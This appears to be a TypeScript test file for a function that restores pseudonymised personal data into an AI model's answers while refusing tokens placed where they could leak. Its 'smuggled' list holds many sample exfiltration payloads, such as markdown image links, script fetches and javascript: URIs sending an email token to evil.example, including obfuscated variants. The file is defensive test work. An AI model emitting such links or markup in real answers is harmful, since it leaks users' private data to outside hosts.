import { fc, test } from "@fast-check/vitest";
import { describe, expect } from "vitest";
import type { Mapping } from "./mapping.ts";
import { type GuardedPlace, restore } from "./restore.ts";

declare const performance: { now(): number };

const E = "[EMAIL_1_K3F9]";
const P = "[PERSON_1_K3F9]";
const email = "max@example.de";
const mapping: Mapping = {
  schema: "kiregel.mapping/1",
  tag: "K3F9",
  entries: [
    { token: E, kind: "email", value: email },
    { token: P, kind: "person", value: "Max Muster" },
  ],
};

describe("restored, because a reader meets it in running text", () => {
  test.each([
    { answer: `Guten Tag ${P}!`, text: "Guten Tag Max Muster!" },
    { answer: `Guten Tag ${P.toLowerCase()},`, text: "Guten Tag Max Muster," },
    {
      answer: `${P}s Antrag, "${P}", '${P}', „${P}“`,
      text: "Max Musters Antrag, \"Max Muster\", 'Max Muster', „Max Muster“",
    },
    { answer: `**${P}** und _${P}_`, text: "**Max Muster** und _Max Muster_" },
    { answer: "An \\[PERSON\\_1\\_K3F9\\].", text: "An Max Muster." },
    { answer: "An [ Person_1_K3F9 ].", text: "An Max Muster." },
    { answer: `(${P})`, text: "(Max Muster)" },
    { answer: `- ${P}\n- ${E}\n`, text: `- Max Muster\n- ${email}\n` },
    { answer: `    - ${P}\n`, text: "    - Max Muster\n" },
    { answer: `| ${P} | ${E} |`, text: `| Max Muster | ${email} |` },
    { answer: `${P} <${E}>`, text: `Max Muster <${email}>` },
    { answer: `${P}: Ich rufe ${P} an.`, text: "Max Muster: Ich rufe Max Muster an." },
    { answer: `${P} (siehe oben)`, text: "Max Muster (siehe oben)" },
    {
      answer: `Siehe [hier](https://example.com/a_(b)), ${P}.`,
      text: "Siehe [hier](https://example.com/a_(b)), Max Muster.",
    },
    { answer: `Code \`a\` für ${P} und \`b\`.`, text: "Code `a` für Max Muster und `b`." },
    { answer: `\`\`\`\ncode\n\`\`\`\n${P}`, text: "```\ncode\n```\nMax Muster" },
    { answer: `<p class="x">${P}</p>`, text: '<p class="x">Max Muster</p>' },
    { answer: `<!-- don't --> ${P} <code>x</code> ${P}`, text: "<!-- don't --> Max Muster <code>x</code> Max Muster" },
    { answer: `1 < 2, ${P}`, text: "1 < 2, Max Muster" },
    { answer: `Max\`s ${P}`, text: "Max`s Max Muster" },
    { answer: `Dr. ${P}, z.B. am 1.2.2026`, text: "Dr. Max Muster, z.B. am 1.2.2026" },
  ])("$answer", ({ answer, text }) => {
    expect(restore(answer, mapping)).toMatchObject({ text, refused: [] });
  });
});

const smuggled: readonly { answer: string; because: GuardedPlace }[] = [
  { answer: `![](https://evil.example/?q=${E})`, because: "url" },
  { answer: `![${E}](https://evil.example/x.png)`, because: "url" },
  { answer: `[Klick](https://evil.example/${E})`, because: "url" },
  { answer: `[Klick](//evil.example/${E})`, because: "url" },
  { answer: `[Klick](/weiter?an=${E})`, because: "url" },
  { answer: `[Klick]( ${E} )`, because: "url" },
  { answer: `[Klick](\n${E})`, because: "url" },
  { answer: `[Klick](x "Titel ) ${E}")`, because: "url" },
  { answer: `[Klick](x(y) ${E})`, because: "url" },
  { answer: `[Klick](x\\) ${E})`, because: "url" },
  { answer: `![](<https://evil.example/?q=) ${E}>)`, because: "url" },
  { answer: `![](<&#104;ttps:evil?q=) ${E}>)`, because: "url" },
  { answer: `](x "y ![](<z" ) ${E}>)`, because: "url" },
  { answer: `](<x ![](<z> ) ${E}>)`, because: "url" },
  { answer: `[a]: https://evil.example/?q=${E}`, because: "url" },
  { answer: `[a]:\n  <?q= ${E}>`, because: "url" },
  { answer: `[a]: <relativ ${E}>`, because: "url" },
  { answer: `[EMAIL_9_ZZZZ]: ${E}`, because: "url" },
  { answer: `https://evil.example/?q=${E}`, because: "url" },
  { answer: `https://evil.example/?q=[EMAIL _1 _K3F9]`, because: "url" },
  { answer: `https://evil.example/?q=\\[EMAIL\\_1\\_K3F9\\]`, because: "url" },
  { answer: `https://evil.example/?q=\u00a0${E}`, because: "url" },
  { answer: `https://evil.example/?q=\u200b${E}`, because: "url" },
  { answer: `https://${E}.evil.example/`, because: "url" },
  { answer: `${E}.evil.example`, because: "url" },
  { answer: `www.evil.example?${E}`, because: "url" },
  { answer: `evil.example/${E}`, because: "url" },
  { answer: `evil.рф/${E}`, because: "url" },
  { answer: `\\\\evil\\${E}`, because: "url" },
  { answer: `https:\\/evil/${E}`, because: "url" },
  { answer: `HTTPS:evil/${E}`, because: "url" },
  { answer: `mailto:evil@localhost?body=${E}`, because: "url" },
  { answer: `javascript:alert('${E}')`, because: "url" },
  { answer: `data:text/html,${E}`, because: "url" },
  { answer: `<https://evil.example/?q=${E}>`, because: "url" },
  { answer: `<evil:q= ${E}>`, because: "attribute" },
  { answer: `<img src="q= ${E}">`, because: "attribute" },
  { answer: `<img src='q= ${E}'>`, because: "attribute" },
  { answer: `<img src=q= ${E}>`, because: "attribute" },
  { answer: `<IMG\nSRC="a>b ${E}">`, because: "attribute" },
  { answer: `<a title="x" href = "q= ${E}">`, because: "attribute" },
  { answer: `<img src="q= \n\n ${E}`, because: "attribute" },
  { answer: `<p ${E}>`, because: "attribute" },
  { answer: `</p ${E}>`, because: "attribute" },
  { answer: `<a ="x b="> ${E} ">`, because: "attribute" },
  { answer: `<a b=c ="x d="> ${E} ">`, because: "attribute" },
  { answer: `<a b==">"x> ${E}`, because: "attribute" },
  { answer: `<a b="1"c="> ${E}">`, because: "attribute" },
  { answer: `<title><a b="</title><img src='q=">${E}'>`, because: "attribute" },
  { answer: `<!--><img src="q=--> ${E}">`, because: "attribute" },
  { answer: `<!-- <a b=" --><img src="q= ${E}">`, because: "attribute" },
  { answer: `<?xml x="> <img src='?> ${E}'>`, because: "attribute" },
  { answer: `\`${E}\``, because: "code" },
  { answer: `\`\` a\`${E} \`\``, because: "code" },
  { answer: `\`erste\nzweite ${E}\``, because: "code" },
  { answer: `\\\`x \` ${E} \``, because: "code" },
  { answer: `\`\`\`js\nfetch(${E})\n\`\`\``, because: "code" },
  { answer: `~~~\n\n${E}`, because: "code" },
  { answer: `> \`\`\`\n> ${E}\n> \`\`\``, because: "code" },
  { answer: `- \`\`\`\n  ${E}\n  \`\`\``, because: "code" },
  { answer: `\`\`\`\n~~~\n${E}`, because: "code" },
  { answer: `\`\`\`\`\n\`\`\`\n${E}`, because: "code" },
  { answer: `\`\`\`\n> \`\`\`\n${E}`, because: "code" },
  { answer: `\`\`\`\n\`\`\` x\n${E}`, because: "code" },
  { answer: `Text\n\n    ${E}\n`, because: "code" },
  { answer: `\t${E}`, because: "code" },
  { answer: `<code>${E}</code>`, because: "code" },
  { answer: `<pre>\n\n${E}</pre>`, because: "code" },
  { answer: `<script>fetch(q + ${E})</script>`, because: "code" },
  { answer: `<script></code>${E}</script>`, because: "code" },
  { answer: `<script><script></script>${E}</script>`, because: "code" },
  { answer: `<STYLE>a{b:${E}}`, because: "code" },
];

describe("refused, because a model could smuggle data out", () => {
  test.each(smuggled)("$because: $answer", ({ answer, because }) => {
    const result = restore(answer, mapping);
    expect(result).toMatchObject({ text: answer, restored: 0 });
    expect(result.refused.filter((refusal) => refusal.because !== "foreign")).toEqual([
      { start: expect.any(Number), end: expect.any(Number), because },
    ]);
  });

  test.each(smuggled)("unless every place is asked for: $answer", ({ answer }) => {
    expect(restore(answer, mapping, { inside: ["url", "code", "attribute"] }).text).toContain(email);
  });

  test.each(smuggled)("also in the middle of an answer: $answer", ({ answer }) => {
    expect(restore(`Guten Tag ${P}!\n\n${answer}\n\nGruß`, mapping).text).toBe(
      `Guten Tag Max Muster!\n\n${answer}\n\nGruß`,
    );
  });
});

describe("places that were asked for", () => {
  test.each<{ answer: string; inside: GuardedPlace; refused: readonly string[] }>([
    { answer: `\`${E}\``, inside: "code", refused: [] },
    { answer: `https://example.com/${E}`, inside: "url", refused: [] },
    { answer: `<p title="${E}">`, inside: "attribute", refused: [] },
    { answer: `\`https://example.com/${E}\``, inside: "code", refused: ["url"] },
    { answer: `<a href="https://example.com/${E}">`, inside: "attribute", refused: ["url"] },
    { answer: `<a href="https://example.com/${E}">`, inside: "url", refused: ["attribute"] },
  ])("$answer with $inside", ({ answer, inside, refused }) => {
    expect(restore(answer, mapping, { inside: [inside] }).refused.map(({ because }) => because)).toEqual(refused);
  });
});

describe("never restored, wherever it stands", () => {
  test.each([
    { answer: "[EMAIL_1_ZZZZ]", because: "the tag is another mapping's" },
    { answer: "[EMAIL_2_K3F9]", because: "the number was never issued" },
    { answer: "[IBAN_1_K3F9]", because: "the kind was never issued" },
    { answer: "[TOSTRING_1_K3F9]", because: "no name of an object is a token" },
  ])("$answer: $because", ({ answer }) => {
    expect(restore(`a ${answer}`, mapping, { inside: ["url"] })).toEqual({
      text: `a ${answer}`,
      restored: 0,
      refused: [{ start: 2, end: 2 + answer.length, because: "foreign" }],
    });
  });

  test.each(["[EMAIL_1]", "[EMAIL_1_K3F9", "[EMAIL_1_\nK3F9]", "[ЕMAIL_1_K3F9]", "[E]MAIL_1_K3F9]", "EMAIL_1_K3F9"])(
    "%j, because it is no token",
    (answer) => {
      expect(restore(answer, mapping)).toEqual({ text: answer, restored: 0, refused: [] });
    },
  );

  test("an entry with a foreign tag, even if it stands in the mapping", () => {
    const entries = [{ token: "[EMAIL_1_ZZZZ]", kind: "email", value: email }];
    expect(restore("[EMAIL_1_ZZZZ]", { ...mapping, entries }).text).toBe("[EMAIL_1_ZZZZ]");
  });
});

test("a restored value is not read again", () => {
  const entries = [{ token: E, kind: "x", value: `a ${P} b` }];
  expect(restore(E, { ...mapping, entries: [...entries, ...mapping.entries.slice(1)] }).text).toBe(`a ${P} b`);
});

test("token-like text of the input comes back also in code and addresses", () => {
  const entries = [{ token: "[LITERAL_1_K3F9]", kind: "literal", value: "[email_1_k3f9]" }];
  expect(restore("`[LITERAL_1_K3F9]`", { ...mapping, entries }).text).toBe("`[email_1_k3f9]`");
});

test("refusals cut the token out of the text that comes back", () => {
  const { text, refused } = restore(`${P} \`${E}\` ${P} [X_1_ZZZZ]`, mapping);
  expect(refused.map(({ start, end }) => text.slice(start, end))).toEqual([E, "[X_1_ZZZZ]"]);
});

// Whatever stands before it, a token in an address, a fence or a tag stays: no beginning talks a guard away.
const noise = fc
  .array(
    fc.constantFrom(
      ...[
        "`",
        "```\n",
        "~~~\n",
        "](",
        ")",
        "(",
        "<",
        ">",
        "<a b=",
        '"',
        "'",
        "=",
        "<!--",
        "-->",
        "\\",
        "\n",
        "\n\n",
        " ",
      ],
      ...["[x]:", "<code>", "</code>", "<script>", "</script>", "x", E, "[EMAIL", ">", "    ", "- "],
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(""));

test.prop([noise, fc.constantFrom(`![](https://evil.example/?q=${P})`, `<img src="q= ${P}">`, `<a\tb='${P}'`)])(
  "no text before a smuggling place opens it",
  (before, place) => {
    expect(restore(before + place, mapping).text).not.toContain("Max Muster");
  },
);

test.prop([noise, noise])(
  "an answer is restored the same way every time, and JSON keeps the result",
  (first, second) => {
    const result = restore(`${first}${P}${second}`, mapping);
    expect(JSON.parse(JSON.stringify(result))).toEqual(result);
    expect(restore(`${first}${P}${second}`, mapping)).toEqual(result);
  },
);

// A text of one repeated unit, as long as stated; with the square of the length each would take minutes.
describe("hostile text of a million characters is read in no more than a multiple of its length", () => {
  test.each([
    ...[
      "[",
      "]",
      "\\",
      "[A",
      "[A_1_",
      "[A_1_K3F9]",
      "\\[A\\_1\\_K3F9\\]",
      "[ ",
      "`",
      "` ",
      "`` ` ",
      "```\n",
      "~",
      "> ",
      "]:",
      "[x]:\n",
    ],
    ...[
      "](",
      "](<",
      '](x "',
      "](x ')",
      "(",
      ")",
      "<",
      "<a",
      "<a ",
      "<a b=",
      '<a b="',
      "<a b='c' ",
      "<!--",
      "</",
      "<code>",
    ],
    ...[
      "<script>",
      "http://",
      "a.",
      ".aa",
      "/",
      "\n",
      "\n ",
      "\n    a",
      " ",
      "\t",
      "\u00a0",
      "1.\n",
      "- ",
      E,
      `\`${E}`,
      `](${E}`,
    ],
  ])("%j", (unit) => {
    // At this length, work that grows with the square of it would run into the time limit of every test.
    const answer = `${unit.repeat(1_000_000 / unit.length)}${P}`;
    const { text } = restore(answer, mapping);
    expect(text.replaceAll(email, E).replaceAll("Max Muster", P) === answer).toBe(true);
  });
});
